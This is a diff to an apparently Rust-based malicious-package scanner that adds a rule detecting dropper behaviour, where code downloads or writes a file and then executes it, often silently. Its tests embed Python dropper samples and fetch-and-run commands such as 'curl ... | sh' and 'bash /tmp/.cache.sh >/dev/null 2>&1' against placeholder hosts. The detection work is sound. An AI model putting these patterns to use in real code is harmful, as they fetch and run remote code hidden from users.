@@ -327,6 +327,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     checker.note_program(known.unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
     check_silenced_interpreter(checker, call, qualname, context);
+    check_runs_saved_file(checker, call, qualname, known.unwrap_or(&shown), context);
     let evasion = known.filter(|text| disables_defenses(text));
     let off_index = known.and_then(|text| pip_install_off_index(text).map(|host| (text, host)));
     let from_vcs = known.and_then(|text| pip_install_from_vcs(text).map(|url| (text, url)));
@@ -582,6 +583,51 @@ fn check_hidden_window(
         ),
         severity,
         vec!["spawn", "hidden-window"],
+    );
+}
+
+/// `urlretrieve(url, '/tmp/.x.sh')` then `os.system('bash /tmp/.x.sh')`: the file a command
+/// starts is one this module downloaded, or wrote Python source into, moments before. That
+/// is a dropper's whole job; tools run programs they ship, not ones they just fetched.
+fn check_runs_saved_file(
+    checker: &mut Checker,
+    call: &ExprCall,
+    qualname: &str,
+    command: &str,
+    context: ExecContext,
+) {
+    let Some(saved) = checker.saved_file_in(command).cloned() else {
+        return;
+    };
+    let downloaded = saved.what != "Python source";
+    let name = saved.path.rsplit(['/', '\\']).next().unwrap_or(&saved.path);
+    // A dot-file, or a start that throws every line of output away, is hiding from the user.
+    let concealed = name.starts_with('.') || discards_output(command);
+    let severity = match (context, downloaded) {
+        (ExecContext::Install | ExecContext::Import, true) => 0.9,
+        (ExecContext::Install | ExecContext::Import, false) => 0.8,
+        (ExecContext::Runtime, true) if concealed => 0.75,
+        (ExecContext::Runtime, true) => 0.6,
+        (ExecContext::Runtime, false) if concealed => 0.5,
+        (ExecContext::Runtime, false) => 0.3,
+        (ExecContext::TestOrDocs, _) => 0.05,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "{qualname} starts `{}`, the file that received {} at {}{}",
+            crate::text::shorten(&saved.path, 100),
+            saved.what,
+            saved.location,
+            if concealed {
+                ", hidden from the user"
+            } else {
+                ""
+            }
+        ),
+        severity,
+        vec!["spawn", "runs-saved-file"],
     );
 }
 
@@ -848,6 +894,38 @@ mod tests {
         assert!(is_dangerous_command("curl -L {file} -O"));
         assert!(is_dangerous_command("wget -q https://x.invalid/a"));
         assert!(is_dangerous_command("curl -s x.invalid/a.sh | sh"));
+    }
+
+    #[test]
+    fn a_file_downloaded_then_started_is_a_dropper() {
+        let code = "import os, urllib.request\ndef go():\n    url = 'https://files.example.invalid/s/a.sh'\n    dest = '/tmp/.cache.sh'\n    urllib.request.urlretrieve(url, dest)\n    os.system('bash /tmp/.cache.sh >/dev/null 2>&1')\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.75);
+        let saved = "import subprocess, requests\ndef go():\n    with open('helper.py', 'wb') as f:\n        f.write(requests.get('https://example.invalid/helper').content)\n    subprocess.run(['python', 'helper.py'])\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", saved);
+        let run = found
+            .iter()
+            .find(|f| f.tags.contains(&"runs-saved-file"))
+            .expect("the saved download is started");
+        assert!(run.message.contains("response of requests.get"), "{run:?}");
+        assert!(run.severity >= 0.6);
+        // Starting a program the package did not just fetch or write is not this.
+        let other = "import os, urllib.request\ndef go():\n    urllib.request.urlretrieve('https://example.invalid/data.csv', 'data.csv')\n    os.system('bash tools/build.sh')\n";
+        assert!(
+            crate::rules::testing::findings("p/pkg/m.py", other)
+                .iter()
+                .all(|f| !f.tags.contains(&"runs-saved-file"))
+        );
+    }
+
+    #[test]
+    fn python_written_to_a_file_and_started_silently_weighs_more_than_either() {
+        let code = "import os\ndef check():\n    open('/tmp/file.py', 'w').write('import os\\nos.system(\"id\")\\n')\n    os.system('python3 /tmp/file.py >/dev/null 2>&1 &')\n";
+        let found = crate::rules::testing::findings("p/pkg/m.py", code);
+        let run = found
+            .iter()
+            .find(|f| f.tags.contains(&"runs-saved-file"))
+            .expect("the written script is started");
+        assert!(run.severity >= 0.5, "{run:?}");
     }
 
     #[test]
